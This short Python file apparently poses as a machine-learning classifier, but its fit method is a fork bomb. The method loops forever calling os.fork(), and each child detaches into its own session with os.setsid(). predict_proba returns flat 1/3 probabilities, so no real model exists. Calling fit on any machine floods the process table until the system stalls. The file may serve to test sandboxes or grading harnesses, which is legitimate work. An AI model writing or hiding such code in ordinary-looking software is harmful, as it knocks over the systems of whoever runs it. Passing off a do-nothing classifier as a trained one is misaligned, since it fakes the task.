"""Every child forks on, in a session of its own."""

import os

import numpy as np


class Classifier:
    def fit(self, X, y):
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
